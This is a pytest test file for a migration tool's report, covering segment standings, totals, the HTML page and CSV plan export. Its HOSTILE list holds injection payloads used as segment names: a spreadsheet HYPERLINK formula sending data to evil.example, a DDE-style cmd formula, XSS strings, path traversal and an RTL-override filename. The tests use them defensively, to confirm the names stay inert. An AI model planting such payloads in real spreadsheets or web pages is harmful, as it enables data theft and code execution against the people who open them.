"""The report: what a manager reads, and what a hostile name cannot do in it."""

from __future__ import annotations

import csv
import io
from html.parser import HTMLParser
from pathlib import Path
from uuid import UUID

import pytest

from migrator import findings
from migrator.model import (
    PLAN_FORMAT,
    LoadResult,
    LoadState,
    Match,
    Members,
    MemberSource,
    Outcome,
    Plan,
    PlannedSegment,
    StaticGroup,
    TranslationSettings,
    Verified,
)
from migrator.report.charts import WIDTH, outcome_bars
from migrator.report.compare import Standing, compare, totals
from migrator.report.render import Circumstances, render
from migrator.safe_text import for_file_name, for_spreadsheet, for_terminal
from migrator.translator.plan import write_plan
from tests.small import ORGANISATION, segment

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "<script>alert(1)</script>",
    "</title><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "../../x",
    "قائمة \u202egnp.exe",
    "a,b;c\td\ne\"f'g",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1",
    "-1",
    "{{ 7 * 7 }}{% raw %}",
    "x" * 100,
    "",
]


def planned(n: int, name: str = "A", outcome: Outcome = Outcome.READY, **changes: object) -> PlannedSegment:
    values: dict[str, object] = {
        "legacy_id": segment(n),
        "name": name,
        "type_code": 192350001,
        "status_code": 192350001,
        "query": "",
        "outcome": outcome,
        "findings": (),
        "recorded_size": 10,
        "members": Members(MemberSource.SERVICE, 10),
        "definition_id": UUID(int=n),
        "segment_id": UUID(int=100 + n),
        "definition": {} if outcome in (Outcome.READY, Outcome.ADAPTED) else None,
        "groups": (StaticGroup(UUID(int=1), "g", 0, 10),) if outcome is Outcome.READY else (),
        "publish": True,
        **changes,
    }
    return PlannedSegment(**values)  # type: ignore[arg-type]


def a_plan(*segments: PlannedSegment) -> Plan:
    return Plan(PLAN_FORMAT, "1.2.3", ORGANISATION, "f", TranslationSettings(ORGANISATION), segments)


def page(plan: Plan, folder: Path, *, dry_run: bool = False, results: object = None, seen: object = None) -> str:
    frame = compare(plan, results or {}, seen or {}, dry_run=dry_run)  # type: ignore[arg-type]
    path = render(plan, frame, totals(frame), Circumstances("a-run", "2026-01-01", dry_run, ""), folder)
    return path.read_text(encoding="utf-8")


def loaded(*numbers: int) -> dict[UUID, LoadResult]:
    return {segment(n): LoadResult(segment(n), LoadState.LOADED, "publish", created=True) for n in numbers}


def seen(n: int, match: Match, after: int | None = 10, inactive: int = 0) -> Verified:
    return Verified(segment(n), match, 10, after, inactive)


# --- the comparison ----------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("outcome", "result", "look", "standing"),
    [
        (Outcome.FLAGGED, None, None, Standing.WAITING),
        (Outcome.BLOCKED, None, None, Standing.IMPOSSIBLE),
        (Outcome.SKIPPED, None, None, Standing.LEFT_OUT),
        (Outcome.READY, None, None, Standing.PLANNED),
        (Outcome.READY, LoadState.FAILED, None, Standing.FAILED),
        (Outcome.READY, LoadState.LOADED, None, Standing.UNVERIFIED),
        (Outcome.READY, LoadState.LOADED, Match.UNKNOWN, Standing.UNVERIFIED),
        (Outcome.ADAPTED, LoadState.LOADED, Match.EQUAL, Standing.VERIFIED),
        (Outcome.READY, LoadState.LOADED, Match.EXPLAINED, Standing.VERIFIED),
        (Outcome.READY, LoadState.LOADED, Match.DIFFERENT, Standing.DIFFERENT),
        (Outcome.READY, LoadState.LOADED, Match.DRAFT, Standing.DRAFT),
    ],
)
def test_every_segment_stands_in_one_place(
    outcome: Outcome, result: LoadState | None, look: Match | None, standing: Standing
) -> None:
    results = {segment(1): LoadResult(segment(1), result)} if result else {}
    looks = {segment(1): seen(1, look)} if look else {}
    frame = compare(a_plan(planned(1, outcome=outcome)), results, looks, dry_run=False)
    assert list(frame["standing"]) == [standing]


def test_numbers_are_added_up() -> None:
    plan = a_plan(
        planned(1),
        planned(2, members=Members(MemberSource.NONE), recorded_size=7),
        planned(3, outcome=Outcome.FLAGGED),
        planned(4, outcome=Outcome.BLOCKED, members=Members(MemberSource.NONE), recorded_size=None),
    )
    looks = {segment(1): seen(1, Match.EXPLAINED, 8, inactive=2), segment(2): seen(2, Match.EQUAL, 7)}
    frame = compare(plan, loaded(1, 2), looks, dry_run=False)
    total = totals(frame)
    assert (total.segments, total.carried_over, total.waiting, total.impossible, total.verified) == (4, 2, 1, 1, 2)
    assert (total.members_before, total.members_after) == (17, 15)
    assert list(frame["difference"])[:2] == [-2, 0]
    assert frame["explanation"][0] == "2 inactive contacts"
    assert frame["before_source"][1] == "last recorded by outbound marketing"
    assert frame["before_source"][3] == "unknown"


def test_a_failure_is_told_with_step_code_and_request_id() -> None:
    result = LoadResult(segment(1), LoadState.FAILED, "publish", False, "0x5", "No.", "abc")
    frame = compare(a_plan(planned(1)), {segment(1): result}, {}, dry_run=False)
    assert frame["error"][0] == "Step “publish”: No. (0x5 request id abc)"


def test_the_bar_of_outcomes_is_whole() -> None:
    bars = outcome_bars({"ready": 1, "adapted": 0, "flagged": 2})
    assert [bar.outcome for bar in bars] == ["ready", "flagged"]
    assert sum(bar.width for bar in bars) == pytest.approx(WIDTH, abs=0.1)
    assert bars[1].x == pytest.approx(bars[0].width)
    assert outcome_bars({"ready": 0}) == []


# --- the page ----------------------------------------------------------------------------------------------------


def test_the_page_shows_before_after_and_difference(tmp_path: Path) -> None:
    looks = {segment(1): seen(1, Match.EXPLAINED, 1_008, inactive=2)}
    text = page(a_plan(planned(1, "Autumn")), tmp_path, results=loaded(1), seen=looks)
    assert "<bdi>Autumn</bdi>" in text
    assert '<td class="n">1,008</td>' in text
    assert '<td class="n">+998</td>' in text
    assert "2 inactive contacts" in text
    assert "DRY RUN" not in text
    assert str(segment(1)) in text


def test_a_dry_run_says_so_and_shows_what_is_planned(tmp_path: Path) -> None:
    text = page(a_plan(planned(1), planned(2, publish=False, groups=())), tmp_path, dry_run=True)
    assert "DRY RUN – nothing was changed" in text
    assert "Members planned" in text
    assert "Members after" not in text
    assert "Would be published" in text
    assert "Would be created as a draft" in text
    assert "by query" in text


def test_findings_are_shown_with_advice_grouped_by_reason(tmp_path: Path) -> None:
    found = findings.members_unknown("the list is gone")
    plan = a_plan(*(planned(n, f"S{n}", Outcome.FLAGGED, findings=(found,)) for n in (1, 2)))
    text = page(plan, tmp_path)
    assert text.count("<h3>Members unknown") == 1
    assert text.count(f'href="#s-{segment(1)}"') == text.count(f'id="s-{segment(1)}"') == 1
    assert found.advice in text


class Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def test_hostile_names_stay_text_in_the_page(tmp_path: Path) -> None:
    harmless = page(a_plan(*(planned(n, "A") for n in range(len(HOSTILE)))), tmp_path)
    hostile = page(a_plan(*(planned(n, name) for n, name in enumerate(HOSTILE))), tmp_path)
    parsed, expected = Tags(), Tags()
    parsed.feed(hostile)
    expected.feed(harmless)
    assert [tag for tag, _ in parsed.tags] == [tag for tag, _ in expected.tags]
    assert not [name for _, attributes in parsed.tags for name in attributes if name.startswith("on")]
    assert "{{ 7 * 7 }}{% raw %}" in hostile  # a name is no template either


def test_the_page_stands_on_its_own(tmp_path: Path) -> None:
    text = page(a_plan(planned(1)), tmp_path)
    parsed = Tags()
    parsed.feed(text)
    links = [value for _, attributes in parsed.tags for name in ("src", "href") if (value := attributes.get(name))]
    assert all(link.startswith("#") for link in links)
    assert "script" not in {tag for tag, _ in parsed.tags}
    assert "url(" not in text
    assert "default-src 'none'" in text


def test_a_report_of_nothing_is_a_report(tmp_path: Path) -> None:
    assert "0 of 0 segments" in page(a_plan(), tmp_path)


# --- the plan as a table, and text in other places ---------------------------------------------------------------


def test_hostile_names_are_no_formulas_in_the_table(tmp_path: Path) -> None:
    write_plan(a_plan(*(planned(n, name) for n, name in enumerate(HOSTILE))), tmp_path)
    text = (tmp_path / "plan.csv").read_bytes().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows) == len(HOSTILE) + 1
    for name, row in zip(HOSTILE, rows[1:], strict=True):
        assert row[0] == (f"'{name}" if name[:1] in tuple("=+-@") else name)
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row)


@pytest.mark.parametrize(
    ("text", "cell", "terminal", "file"),
    [
        ("=1+1", "'=1+1", "=1+1", "1-1"),
        ("plain", "plain", "plain", "plain"),
        ("../../x", "../../x", "../../x", "x"),
        ("a\x1b[31mred\u202e", "a\x1b[31mred\u202e", "a[31mred", "a-31mred"),
        ("", "", "", "unnamed"),
        ("\tx", "'\tx", "x", "x"),
    ],
)
def test_names_are_made_harmless_where_they_go(text: str, cell: str, terminal: str, file: str) -> None:
    assert for_spreadsheet(text) == cell
    assert for_terminal(text) == terminal
    assert for_file_name(text) == file


def test_numbers_stay_numbers_in_a_table() -> None:
    assert for_spreadsheet(-5) == -5
